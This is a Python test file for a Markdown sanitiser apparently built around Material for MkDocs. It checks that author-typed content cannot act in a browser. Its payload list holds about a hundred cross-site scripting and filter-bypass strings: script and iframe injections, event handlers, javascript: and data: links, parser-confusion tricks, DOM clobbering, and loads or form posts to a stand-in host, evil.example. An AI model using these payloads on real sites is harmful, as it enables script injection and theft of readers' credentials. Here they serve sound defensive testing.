"""Nothing that an author types acts in a reader's browser, and what Material documents works."""

import re
from pathlib import Path

import html5lib
import payloads
import pytest
from active_content import active
from playwright.sync_api import Error, Page

from judges import browser
from townsquare import bodies, links, sanitising

HARMLESS = payloads.JS
OWN = [
    # elements that run or load
    f"<script>{HARMLESS}</script>",
    f"<SCRIPT>{HARMLESS}</SCRIPT>",
    f"<script\n>{HARMLESS}</script\n>",
    f"<script/x>{HARMLESS}</script>",
    f"<scr<script>ipt>{HARMLESS}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js async>",
    "<iframe src=https://evil.example></iframe>",
    f'<iframe srcdoc="<script>{HARMLESS}</script>"></iframe>',
    f"<iframe src=javascript:{HARMLESS}></iframe>",
    f'<object data="data:text/html,<script>{HARMLESS}</script>"></object>',
    f'<embed src="javascript:{HARMLESS}">',
    f'<applet code="x" onerror="{HARMLESS}"></applet>',
    f'<frameset onload="{HARMLESS}"><frame src="about:blank"></frameset>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    f'<form><button formaction="javascript:{HARMLESS}">Go</button></form>',
    f'<isindex action="javascript:{HARMLESS}" type="submit">',
    "<portal src=https://evil.example></portal>",
    # handlers
    f'<img src=x onerror="{HARMLESS}">',
    f"<img src=x:x onerror={HARMLESS}//>",
    f"<img/src=x/onerror={HARMLESS}>",
    f'<img """><script>{HARMLESS}</script>">',
    f'<b onmouseover="{HARMLESS}">b</b>',
    f'<div ONCLICK="{HARMLESS}">d</div>',
    f"<details open ontoggle={HARMLESS}><summary>s</summary></details>",
    f'<input type="checkbox" autofocus onfocus="{HARMLESS}">',
    f"<body onload={HARMLESS}>",
    f"<video><source onerror={HARMLESS}></video>",
    f"<audio src=x onerror={HARMLESS}></audio>",
    f'<marquee onstart="{HARMLESS}">m</marquee>',
    f'<p style="x:expression({HARMLESS})" onpointerenter={HARMLESS}>p</p>',
    f'<a href="#" onclick="{HARMLESS}">a</a>',
    f"Text{{ onclick={HARMLESS} }}",
    f"# Heading {{: onmouseover={HARMLESS} }}",
    f"![x](x.png){{ onerror={HARMLESS} }}",
    f"```{{ .python onclick={HARMLESS} }}\nx\n```",
    f'| a |\n|---|\n| b {{: onclick="{HARMLESS}" }} |',
    # addresses
    f"[a](javascript:{HARMLESS})",
    f"[a](JaVaScRiPt:{HARMLESS})",
    f"[a](java&#x09;script:{HARMLESS})",
    f"[a](java&Tab;script:{HARMLESS})",
    f"[a](&#106;avascript:{HARMLESS})",
    f"[a](<javascript:{HARMLESS}>)",
    f"[a](\x01javascript:{HARMLESS})",
    f"[a](vbscript:{HARMLESS})",
    f"[a](data:text/html,<script>{HARMLESS}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
    f"[a]: javascript:{HARMLESS}\n\n[a]",
    f"<javascript:{HARMLESS}>",
    f"<javascript://evil.example/%0a{HARMLESS}>",
    f"![a](javascript:{HARMLESS})",
    f'![a](data:image/svg+xml,<svg onload="{HARMLESS}"/>)',
    f'<a href=" javascript:{HARMLESS}">a</a>',
    f'<a href="java\nscript:{HARMLESS}">a</a>',
    f"<a href='javascript&colon;{HARMLESS}'>a</a>",
    f"<a xlink:href=javascript:{HARMLESS}>a</a>",
    "<a href=blob:https://evil.example/x>a</a>",
    "<a href=file:///etc/passwd>a</a>",
    "<a href=intent://evil#Intent;end>a</a>",
    '<a href="https://ok.example" target=_blank ping=https://evil.example>a</a>',
    "[a](townsquare:content/secret.md)",
    '<img src="townsquare:../../etc/passwd" alt="a">',
    '<img srcset="https://evil.example/x.png 2x" src="a.png" alt="a">',
    # other languages inside HTML, and text that changes its meaning when it is parsed twice
    f"<svg onload={HARMLESS}></svg>",
    f"<svg><script>{HARMLESS}</script></svg>",
    f"<svg><a xlink:href=javascript:{HARMLESS}><text>t</text></a></svg>",
    f"<svg><foreignObject><iframe src=javascript:{HARMLESS}></foreignObject></svg>",
    f"<svg><animate onbegin={HARMLESS} attributeName=x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HARMLESS}></style></mtext></math>",
    f"<math href=javascript:{HARMLESS}>m</math>",
    f'<svg></p><style><a id="</style><img src=1 onerror={HARMLESS}>">',
    f'<noscript><p title="</noscript><img src=x onerror={HARMLESS}>"></noscript>',
    f"<textarea></textarea><img src=x onerror={HARMLESS}>",
    f'<title><a title="</title><img src=x onerror={HARMLESS}>"></title>',
    f'<xmp><p title="</xmp><img src=x onerror={HARMLESS}>"></xmp>',
    f"<template><img src=x onerror={HARMLESS}></template>",
    f'<select><template><style><!--</style><a rel="--></style><img src=x onerror={HARMLESS}>">',
    f"<plaintext><script>{HARMLESS}</script>",
    f"<!--><script>{HARMLESS}</script>-->",
    f"<!-- --!><img src=x onerror={HARMLESS}> -->",
    f"<![CDATA[><script>{HARMLESS}</script>]]>",
    f"<?xml ><img src=x onerror={HARMLESS}>?>",
    f"<!doctype html><img src=x onerror={HARMLESS}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HARMLESS}>",
    f"</p><img src=x onerror={HARMLESS}",
    f'<div title="`<img src=x onerror={HARMLESS}>`">d</div>',
    f"`` ` ``<img src=x onerror={HARMLESS}>",
    f'*[a]: "><script>{HARMLESS}</script>\n\na a',
    f'[a](x "\\"><script>{HARMLESS}</script>")',
    f'[a](x "&quot; onmouseover=&quot;{HARMLESS}")',
    f"![&quot; onerror=&quot;{HARMLESS}](x.png)",
    f'[^"><script>{HARMLESS}</script>]: n\n\nx[^"><script>{HARMLESS}</script>]',
    f"\x02klzzwxh:0\x03 &#2;klzzwxh:0&#3; <script>{HARMLESS}</script>",
    f'=== "<img src=x onerror={HARMLESS}>"\n\n    t',
    f'!!! note "<img src=x onerror={HARMLESS}>"\n\n    t',
    f'```py title="<img src=x onerror={HARMLESS}>"\nx\n```',
    f"<div markdown>\n<script>{HARMLESS}</script>\n</div>",
    # standing in for something of the page's own
    '<a id="__config">x</a><label for="__drawer">open</label><input type=radio id=__search>',
    '<img name="getElementById" src="a.png" alt="a"><form name=body><input name=forms></form>',
    '<a id=defaultView name=cookie>x</a><p class="md-overlay" style="position:fixed">p</p>',
]
PAYLOADS = list(dict.fromkeys([*OWN, *payloads.ALL]))


def everywhere(body: bodies.Body) -> list[str]:
    """What readers could get of a body: on its page, in a list, in a feed, links known or not."""
    address = links.Addresses("https://example.org/", {"content/a.md": "a/"})
    whole = [body.html, body.summary, address.in_feed(body.html)]
    return [*whole, address.in_page(body.html, "a/"), links.with_links(body.html, lambda *_: None)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_an_author_types_can_act(payload: str) -> None:
    for text in (payload, f"Before\n\n{payload}\n\nafter", f"- {payload}\n", f"> {payload}"):
        body = bodies.convert(text, "content/a.md", 1)
        assert {each.code for each in body.refusals} <= {"text_has_controls"}
        for html in everywhere(body):
            assert [f for f in active(html) if "townsquare:" not in f] == []


def test_the_judge_sees_what_acts() -> None:
    """Without sanitising, most payloads must be found; else the test above proves nothing."""
    from townsquare import conversion

    seen = [p for p in PAYLOADS if active(conversion.to_html(p))]
    assert len(seen) > 300 and len(seen) > 0.6 * len(PAYLOADS)


@pytest.mark.parametrize(
    ("typed", "what", "line", "column"),
    [
        ("a\n\n<script>x</script>", "<script>", 3, 1),
        ("a <b onclick=x>b</b>", "onclick=", 1, 6),
        ("[a](javascript:x)", "javascript:", 1, 5),
        ("# A {: onclick=x }", "onclick=", 1, 8),
        ("a\n\n- <iframe src=x></iframe>", "<iframe>", 3, 3),
        ("a Vec<T> b", "<t>", 1, 6),
        ("`<script>` and <script></script>", "<script>", 1, 16),
        ("    <script>\n\n<script></script>", "<script>", 3, 1),
        ("<p data-x='1' title='data-y=2'>p</p>", "data-x=", 1, 4),
        ("a\x08b", "U+0008", 1, 2),
    ],
)
def test_what_is_taken_out_is_reported_where_it_stands(
    typed: str, what: str, line: int, column: int
) -> None:
    found = bodies.convert(typed, "content/a.md", 1).removed
    assert [(r.what, r.spot.line, r.spot.column) for r in found] == [(what, line, column)]


@pytest.mark.parametrize(
    "typed",
    ["`<script>`", "```\n<script onclick=x>\n```", "    <script>", "a <kbd>b</kbd>", "1 < 2 > x"],
)
def test_examples_of_code_are_not_reported(typed: str) -> None:
    assert bodies.convert(typed, "content/a.md", 1).removed == ()


KEPT = {
    "admonition": ('!!! warning "Care"\n\n    t', '<div class="admonition warning">'),
    "inline admonition": (
        "!!! note inline end\n\n    t",
        '<div class="admonition note inline end">',
    ),
    "details": ('??? tip "More"\n\n    t', '<details class="tip">\n<summary>More</summary>'),
    "open details": ("???+ tip\n\n    t", '<details class="tip" open="open">'),
    "tabs": ('=== "A"\n\n    1\n\n=== "B"\n\n    2', 'data-tabs="1:2"'),
    "code": ("```python\nprint(1)\n```", '<span class="nb">print</span>'),
    "code title": ('```py title="x.py"\n1\n```', '<span class="filename">x.py</span>'),
    "code lines": ('```py linenums="1" hl_lines="1"\n1\n```', '<span class="hll">'),
    "inline code": ("`#!py x = 1`", '<code class="highlight"><span class="n">x</span>'),
    "diagram": ("```mermaid\nA-->B\n```", '<code tabindex="0">A--&gt;B\n</code>'),
    "formula": ("$$\na_1 * b * c\n$$", "a_1 * b * c"),
    "inline formula": (r"\(a_1*b*c\)", r"\(a_1*b*c\)"),
    "alignment": ("|a|b|\n|:-|-:|\n|1|2|", '<td style="text-align:right">2</td>'),
    "task": (
        "- [x] Buy milk",
        '<input type="checkbox" disabled="" checked="" aria-label="Buy milk">',
    ),
    "footnote": ("a[^1]\n\n[^1]: b", '<li id="fn:1">'),
    "footnote's way back": ("a[^1]\n\n[^1]: b", 'class="footnote-backref" title="↩ 1">↩</a>'),
    "button": (
        "[a](https://x.example){ .md-button }",
        '<a href="https://x.example" class="md-button">',
    ),
    "grid": ("<div class='grid cards' markdown>\n\n- a\n\n</div>", '<div class="grid cards">'),
    "keys": ("++ctrl+c++", '<kbd class="key-control">Ctrl</kbd>'),
    "marks": ("==a== ~~b~~ H~2~O x^2^ ^^c^^", "<mark>a</mark> <del>b</del> H<sub>2</sub>O"),
    "abbreviation": (
        "*[CoC]: Code of Conduct\n\nThe CoC.",
        '<abbr title="Code of Conduct">CoC</abbr>',
    ),
    "definition": ("a\n:   b", "<dt>a</dt>\n<dd>b</dd>"),
    "own anchor": ('<a name="old-anchor"></a>', '<a id="old-anchor"></a>'),
    "figure": (
        '<figure markdown="span">\n![a](x.png){ width="300" }\n</figure>',
        'alt="a" width="300" loading="lazy" decoding="async">',
    ),
    "beside a picture": ("![a](x.png){ align=left }", 'alt="a" align="left" loading="lazy"'),
    "raw HTML": ("a<br>b <kbd>k</kbd> <sup>s</sup>", "a<br>b <kbd>k</kbd> <sup>s</sup>"),
    "raw table": ("<table><tr><td colspan=2>x</td></tr></table>", '<td colspan="2">x</td>'),
    "language": ('<p lang="de" dir="ltr">Hallo</p>', '<p lang="de" dir="ltr">Hallo</p>'),
}


@pytest.mark.parametrize(("typed", "kept"), KEPT.values(), ids=KEPT)
def test_what_material_documents_survives(typed: str, kept: str) -> None:
    body = bodies.convert(typed, "content/a.md", 1)
    assert kept in body.html
    assert body.removed == () and active(links.with_links(body.html, lambda *_: "x")) == []


def test_each_tab_is_wired_to_its_own_switch() -> None:
    html = bodies.convert(KEPT["tabs"][0], "content/a.md", 1).html
    ids = re.findall(r'<input type="radio" id="([^"]+)"', html)
    assert len(ids) == 2 and ids == re.findall(r'<label for="([^"]+)"', html)
    assert len(set(re.findall(r'name="([^"]+)"', html))) == 1
    other = bodies.convert(KEPT["tabs"][0], "content/b.md", 1).html
    assert not set(ids) & set(re.findall(r'id="([^"]+)"', other)), "two bodies may share a page"


def test_cleaned_html_has_no_bare_angle_bracket_in_text_or_attributes() -> None:
    """What `markup` and `links` rely on when they find tags by their `<`."""
    clean = sanitising.clean('<a href="x>y<z" title="a>b<c">1 < 2</a> > "q"')
    assert re.sub(r'<a href="[^<>]*" title="[^<>]*">|</a>', "", clean) == '1 &lt; 2 &gt; "q"'
    nasty = sanitising.clean('<p title=\'<a href="townsquare:x">\'>&lt;img src="townsquare:x"></p>')
    assert links.with_links(nasty, lambda *_: "resolved") == nasty


def test_classes_of_the_theme_are_not_an_authors_to_take() -> None:
    html = bodies.convert('<div class="md-header admonition md-grid">x</div>', "a.md", 1).html
    assert '<div class="admonition">' in html


@pytest.mark.parametrize("taken", ["__search", "_x", "mermaid", "a b", "x'y", "document$", ""])
def test_an_id_that_scripts_look_up_is_not_given_away(taken: str) -> None:
    body = bodies.convert(f'<p id="{taken}">x</p>', "a.md", 1)
    assert body.ids == () and "id=" not in body.html


def test_an_id_stands_once() -> None:
    html = bodies.convert('<p id="x">1</p><p id="x">2</p>\n\n## X\n\n## X', "a.md", 1).html
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    ids = [element.get("id") for element in tree.iter() if element.get("id")]
    assert ids == ["x", "x-1", "x-2"]


@pytest.mark.parametrize("kind", ["ours", "stock"])
def test_payloads_run_in_a_browser_only_where_nothing_is_sanitised(
    kind: str, tmp_path: Path, chromium: browser.Chromium, full: bool
) -> None:
    from townsquare import conversion

    tried = PAYLOADS if full else PAYLOADS[::8]
    for number, payload in enumerate(tried):
        body = bodies.convert(payload, "content/a.md", 1)
        safe = links.with_links(body.html + body.summary, lambda *_: "x")
        html = safe if kind == "ours" else conversion.to_html(payload)
        page = f"<!doctype html><title>t</title><body>{html}"
        (tmp_path / f"{number}.html").write_text(page, "utf-8", errors="replace")
    with browser.served(tmp_path) as base, chromium.visit(base + "0.html") as visit:
        ran = _ran(visit.page, base, len(tried))
    # Unsanitised, four in ten run here; how many on a slow machine does not matter, only that
    # this test would see them.
    assert not ran if kind == "ours" else len(ran) >= len(tried) / 8


def _ran(page: Page, base: str, count: int) -> set[str]:
    """The pages on which something ran, by itself or when everything was clicked and touched."""
    ran: set[str] = set()
    context = page.context
    context.expose_function("tell", lambda path: ran.add(path))
    context.add_init_script(
        "Object.defineProperty(globalThis, 'ran', {set() { tell(location.pathname) }});"
        "document.addEventListener('click', event => { const link = event.target.closest('a');"
        " if (link && link.protocol !== 'javascript:') event.preventDefault() }, true)"
    )
    for number in range(count):
        try:
            page.goto(f"{base}{number}.html")
            page.evaluate(
                "for (const each of document.querySelectorAll('body *'))"
                " for (const type of ['click', 'mouseover', 'pointerenter', 'focus'])"
                "  each.dispatchEvent(new MouseEvent(type, {bubbles: true}))"
            )
            page.wait_for_timeout(80)
        except Error:
            # It leads the reader away, or has brought its tab down: what follows needs another.
            page = context.new_page()
    return ran
